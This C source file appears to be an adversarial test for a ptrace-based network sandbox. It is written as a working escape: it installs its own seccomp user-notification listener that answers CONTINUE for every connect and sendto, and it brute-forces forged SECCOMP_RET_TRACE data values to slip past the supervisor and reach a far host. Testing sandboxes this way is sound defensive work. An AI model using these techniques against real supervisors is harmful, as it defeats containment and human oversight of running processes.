/* The tree's own seccomp filters against a ptrace supervisor:
 *  - a user-notification listener (RET_USER_NOTIF outranks RET_TRACE) whose
 *    thread answers CONTINUE for every connect/sendto;
 *  - a filter returning RET_TRACE with forged data on connect/sendto: on a tie
 *    the newest filter's data wins, so the supervisor sees a rule number of
 *    the tree's choosing.
 * Usage: adv_seccomp <token> */
#include "adv_common.h"
#include <linux/audit.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <stddef.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>

static int install(unsigned int action, unsigned int flags) {
  struct sock_filter f[] = {
      BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
      BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, __NR_connect, 2, 0),
      BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, __NR_sendto, 1, 0),
      BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
      BPF_STMT(BPF_RET | BPF_K, action),
  };
  struct sock_fprog prog = {sizeof f / sizeof f[0], f};
  prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
  return syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, flags, &prog);
}

static void *answer(void *arg) {
  int lfd = *(int *)arg;
  for (;;) {
    struct seccomp_notif req = {0};
    if (ioctl(lfd, SECCOMP_IOCTL_NOTIF_RECV, &req) < 0) return NULL;
    struct seccomp_notif_resp resp = {.id = req.id, .flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE};
    ioctl(lfd, SECCOMP_IOCTL_NOTIF_SEND, &resp);
  }
}

/* Tries to reach far by connect (TCP, with data) and sendto (UDP). */
static void reach(const char *route) {
  char buf[128], name[64];
  snprintf(name, sizeof name, "%s-tcp", route);
  int n = payload(buf, sizeof buf, name);
  int s = socket(AF_INET, SOCK_STREAM, 0);
  struct sockaddr_in a = sin4(FAR4, FAR_PORT);
  struct timeval tv = {.tv_sec = 1};
  setsockopt(s, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof tv);
  long rc = connect(s, (struct sockaddr *)&a, sizeof a);
  if (rc == 0) rc = write(s, buf, n);
  verdict(name, rc);
  close(s);
  snprintf(name, sizeof name, "%s-udp", route);
  n = payload(buf, sizeof buf, name);
  s = socket(AF_INET, SOCK_DGRAM, 0);
  sent(name, sendto(s, buf, n, 0, (struct sockaddr *)&a, sizeof a));
  close(s);
}

int main(void) {
  /* Each attack in its own child: filters stack and cannot be removed. */
  pid_t c = fork();
  if (c == 0) {
    int lfd = install(SECCOMP_RET_USER_NOTIF, SECCOMP_FILTER_FLAG_NEW_LISTENER);
    if (lfd < 0) {
      blocked("user-notif-listener");
      _exit(0);
    }
    out("info user-notif-listener installed");
    pthread_t th;
    pthread_create(&th, NULL, answer, &lfd);
    reach("user-notif-continue");
    _exit(0);
  }
  waitpid(c, NULL, 0);

  /* Forged SECCOMP_RET_TRACE data: every 16-bit value in a few ranges. */
  int forged = 0, tried = 0;
  unsigned int datas[80];
  int nd = 0;
  for (unsigned i = 0; i < 64; i++) datas[nd++] = i;
  unsigned extra[] = {0x100, 0x7fff, 0x8000, 0xfffe, 0xffff, 0x1000, 0x4000, 0xff};
  for (unsigned i = 0; i < sizeof extra / sizeof extra[0]; i++) datas[nd++] = extra[i];
  for (int i = 0; i < nd; i++) {
    int p[2];
    (void)!pipe(p);
    c = fork();
    if (c == 0) {
      close(p[0]);
      dup2(p[1], 1);
      if (install(SECCOMP_RET_TRACE | datas[i], 0) < 0) {
        blocked("trace-forged-install");
        _exit(0);
      }
      char route[48];
      snprintf(route, sizeof route, "trace-forged-%#x", datas[i]);
      reach(route);
      _exit(0);
    }
    close(p[1]);
    char buf[2048];
    int n, len = 0;
    while ((n = read(p[0], buf + len, sizeof buf - 1 - len)) > 0) len += n;
    buf[len] = 0;
    close(p[0]);
    waitpid(c, NULL, 0);
    tried++;
    /* Print escapes and the first blocked lines only: 72 children would flood. */
    if (strstr(buf, "escaped") || strstr(buf, "sent ")) {
      forged++;
      (void)!write(1, buf, len);
    } else if (i < 2 || strstr(buf, "blocked trace-forged-install")) {
      (void)!write(1, buf, len);
    }
  }
  out("info trace-forged %d of %d data values got through", forged, tried);
  out("done");
  return 0;
}
